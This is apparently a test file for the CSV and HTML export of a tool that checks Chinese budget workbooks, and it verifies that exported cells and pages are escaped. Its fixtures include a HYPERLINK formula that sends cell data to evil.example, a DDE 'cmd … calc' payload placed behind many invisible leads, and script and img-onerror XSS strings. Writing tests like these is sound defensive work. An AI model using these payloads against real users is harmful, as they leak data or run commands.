import { readFileSync } from 'node:fs';
import { samplePath } from '../../cli/sample';
import { readXlsx } from '../../cli/xlsx';
import { parseCsv } from '../../src/csv';
import { checkWorkbookRaw } from '../../src/engine';
import { escapeCsvCell, findingKey, findingsCsv, findingsHtml, isFindingKey, startsLikeFormula } from '../../src/export';
import { render, type Finding, type RawFinding } from '../../src/findings';

let raw: readonly RawFinding[];
let findings: readonly Finding[];

beforeAll(async () => {
  raw = checkWorkbookRaw(await readXlsx(readFileSync(samplePath()))).findings;
  findings = raw.map((f) => render(f, 'zh'));
});

/** A sample finding whose text came from a hostile workbook. */
function hostile(): Finding {
  return { ...findings[0], message: '=HYPERLINK("http://evil.example/?"&A1,"点此查看"), 合计\r\n不符', difference: '-0.01', reported: '+536.45', computed: '@SUM(D14:D17)' };
}

/** What a spreadsheet reads as the start of a formula, ASCII or full width. */
const SIGNS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
/** What may stand before the sign and still leave it the first thing a spreadsheet sees. */
const LEADS = [' ', '  ', '\u00A0', '\u3000', '\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u202E', ' \u200B '];

describe('CSV cells never run as formulas', () => {
  test.each([
    ['=1+1', "'=1+1"],
    ['+536.45', "'+536.45"],
    ['-1+2', "'-1+2"],
    ['-0.01abc', "'-0.01abc"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['＝1+1', "'＝1+1"],
    ['＋536.45', "'＋536.45"],
    ['－cmd', "'－cmd"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    [' =1+1', "' =1+1"],
    ['\u3000=1+1', "'\u3000=1+1"],
    ['\u200B=HYPERLINK("x")', '"\'\u200B=HYPERLINK(""x"")"'],
    ['\uFEFF+1', "'\uFEFF+1"],
    ['\u00A0＠SUM(A1)', "'\u00A0＠SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', '"\'\rcmd"'],
    ['=HYPERLINK("http://evil","点此")', '"\'=HYPERLINK(""http://evil"",""点此"")"'],
  ])('%j is written as %j', (cell, written) => {
    expect(escapeCsvCell(cell)).toBe(written);
  });

  test('every formula sign, alone or after any white space or invisible lead, is made inert', () => {
    for (const sign of SIGNS) {
      for (const lead of ['', ...LEADS]) {
        const cell = `${lead}${sign}cmd|' /C calc'!A0`;
        expect([JSON.stringify(cell), startsLikeFormula(cell), escapeCsvCell(cell).replace(/^"/, '').startsWith("'")]).toEqual([JSON.stringify(cell), true, true]);
      }
    }
  });

  test('amounts stay numbers, negative ones included', () => {
    for (const amount of ['-0.01', '-63.56', '-536.45', '-1,234.50', '-12', '0.01', '536.45', '1,234.50']) {
      expect([amount, escapeCsvCell(amount).replace(/^"(.*)"$/, '$1')]).toEqual([amount, amount]);
    }
    // Only a plain amount is exempt: anything else after the minus sign is text that could be a formula.
    for (const text of ['-0.01+A1', '-1e5', '- 0.01', '-.5', '-0.01 ', '--1', '-1,23.4']) expect(escapeCsvCell(text).replace(/^"/, '')).toMatch(/^'/);
  });

  test('plain text and amounts are left as they are; commas, quotes and line breaks are quoted', () => {
    expect(escapeCsvCell('536.45')).toBe('536.45');
    expect(escapeCsvCell(' 款 20805')).toBe(' 款 20805');
    expect(escapeCsvCell('\u200B说明')).toBe('\u200B说明');
    expect(escapeCsvCell('a-b=c')).toBe('a-b=c');
    expect(escapeCsvCell('款 20805 合计')).toBe('款 20805 合计');
    expect(escapeCsvCell('a,b')).toBe('"a,b"');
    expect(escapeCsvCell('说 "是"')).toBe('"说 ""是"""');
    expect(escapeCsvCell('两\n行')).toBe('"两\n行"');
    expect(escapeCsvCell('')).toBe('');
  });

  test('a hostile finding survives the round trip through parseCsv, each field inert', () => {
    const f = hostile();
    const rows = parseCsv(findingsCsv([f], 'zh'));
    expect(rows).toHaveLength(2);
    const [sev, kind, , sheet, cell, message, reported, computed, difference] = rows[1];
    expect([sev, kind, sheet, cell]).toEqual(['警告', '尾差', '收入总表', 'D13']);
    expect(message).toBe(`'${f.message}`);
    expect(reported).toBe("'+536.45");
    expect(computed).toBe("'@SUM(D14:D17)");
    // An amount stays a number: -0.01, not the text '-0.01.
    expect(difference).toBe('-0.01');
    expect(rows[1].every((c) => !startsLikeFormula(c) || /^-\d+(\.\d+)?$/.test(c))).toBe(true);
  });
});

describe('findingsCsv on the sample', () => {
  test('BOM, header and one row per finding (6 findings → 7 rows), CRLF line ends', () => {
    const csv = findingsCsv(findings, 'zh');
    expect(csv.startsWith('\uFEFF级别,性质,表,工作表,单元格,说明,填报数,计算数,差额,审核说明\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = parseCsv(csv);
    // The three 尾差 of 款 20805, then the three notes on the 项目绩效目标表 (a plan without 12 月底, two values without a comparator).
    expect(rows).toHaveLength(7);
    expect(rows.every((r) => r.length === 10)).toBe(true);
    expect(rows[1]).toEqual(['警告', '尾差', '收入总表', '收入总表', 'D13', '款 20805 合计、本年收入小计、财政拨款收入 填报数 536.45 ≠ 计算数 536.44（差额 0.01，尾差）', '536.45', '536.44', '0.01', '']);
    // A finding covering several columns is one row, at its first column's total.
    expect(rows.slice(1).map((r) => `${r[3]}!${r[4]}`)).toEqual(['收入总表!D13', '支出总表!D13', '一般公共预算支出表!D13', '项目绩效目标表!F7', '项目绩效目标表!F38', '项目绩效目标表!E71']);
    // A percentage is in the message, never in the figures columns.
    expect(rows[4].slice(6, 9)).toEqual(['', '', '']);
  });

  test('English headers and words; the explanation goes to its own finding only', () => {
    const en = raw.map((f) => render(f, 'en'));
    const csv = findingsCsv(en, 'en', new Map([[findingKey(raw[1]), '已与财政局核对，四舍五入所致'], [findingKey(raw[2]), '  ']]));
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual(['Severity', 'Kind', 'Table', 'Sheet', 'Cell', 'Message', 'Reported', 'Computed', 'Difference', 'Explanation']);
    expect(rows[1].slice(0, 3)).toEqual(['warning', 'rounding', 'revenue table']);
    expect(rows.map((r) => r[9])).toEqual(['Explanation', '', '已与财政局核对，四舍五入所致', 'explained', '', '', '']);
  });
});

describe('findingKey: what an explanation belongs to', () => {
  test('relation, sheet, subject, grade and difference; the same in both languages', () => {
    const keys = raw.map(findingKey);
    expect(new Set(keys).size).toBe(6);
    expect(keys.map((k) => JSON.parse(k) as unknown)).toEqual([
      ['income.hierarchy', '收入总表', '20805', 'warning/rounding', '0.01'],
      ['expenditure.hierarchy', '支出总表', '20805', 'warning/rounding', '0.01'],
      ['general-expenditure.hierarchy', '一般公共预算支出表', '20805', 'warning/rounding', '0.01'],
      ['performance-target.plan', '项目绩效目标表', '13070025P00166310002K', 'info', ''],
      ['performance-target.value-comparator', '项目绩效目标表', '13070025P001663100037', 'info', ''],
      ['performance-target.value-comparator', '项目绩效目标表', '13070025P00174410001Y', 'info', ''],
    ]);
    expect(raw.map((f) => findingKey(render(f, 'en')))).toEqual(keys);
    expect(keys.every(isFindingKey)).toBe(true);
  });

  test('a change of grade or difference is another finding; a change of cell is not', () => {
    const f = raw[0];
    const key = findingKey(f);
    expect(findingKey({ ...f, severity: 'error', rounding: false, difference: '63.56' })).not.toBe(key);
    expect(findingKey({ ...f, severity: 'error', rounding: false })).not.toBe(key);
    expect(findingKey({ ...f, difference: '-0.01' })).not.toBe(key);
    // --strict grades the same 尾差 an error: another grade.
    expect(findingKey({ ...f, severity: 'error' })).not.toBe(key);
    expect(findingKey({ ...f, subject: '20806' })).not.toBe(key);
    expect(findingKey({ ...f, relation: 'income.row-cross-foot' })).not.toBe(key);
    expect(findingKey({ ...f, sheet: '收入总表 (2)' })).not.toBe(key);
    // The same relation, subject, grade and difference with its total one row lower (a row inserted above):
    // still the finding that was explained.
    expect(findingKey({ ...f, cells: ['D14', 'E14', 'F14'] })).toBe(key);
  });

  test('a finding that is no relation is keyed by its rule; a subject-less one by its first cell', () => {
    const structural: RawFinding = { ...raw[0], rule: 'code-structure', relation: undefined, subject: '2080505', severity: 'warning', rounding: false, difference: null };
    expect(JSON.parse(findingKey(structural))).toEqual(['code-structure', '收入总表', '2080505', 'warning', '']);
    expect(JSON.parse(findingKey({ ...structural, subject: undefined }))).toEqual(['code-structure', '收入总表', 'D13', 'warning', '']);
  });

  test('keys of the first format (rule|sheet|cell) and anything else are not finding keys', () => {
    for (const k of ['hierarchy-sum|收入总表|D13', '', '[]', '["a","b"]', '["","s","x","warning",""]', '[1,2,3,4,5]', '{"a":1}', 'null']) expect([k, isFindingKey(k)]).toEqual([k, false]);
  });
});

describe('findingsHtml', () => {
  test('a standalone page of the sample: charset, language, one row per finding', () => {
    const html = findingsHtml('校验报告', findings, 'zh');
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain('<meta charset="utf-8">');
    expect(html).toContain('<html lang="zh-CN">');
    expect(html.match(/<tr class="warning">/g)).toHaveLength(3);
    expect(html).toContain('<th scope="col">审核说明</th>');
    expect(html).toContain('<td>收入总表</td><td>D13</td>');
    expect(html).toContain('0 个错误，3 个警告（其中 3 个尾差），3 个提示');
    expect(html).not.toMatch(/<script|<link|src=/);
  });

  test('escapes everything: a <script> in a message, the title or an explanation stays text', () => {
    const f = { ...findings[0], message: '<script>alert("x")</script>' };
    const html = findingsHtml('<script>t</script>', [f], 'en', new Map([[findingKey(f), '<img src=x onerror=alert(1)>']]));
    expect(html).not.toContain('<script');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    expect(html).toContain('<title>&lt;script&gt;t&lt;/script&gt;</title>');
    expect(html).toContain('<html lang="en">');
  });
});
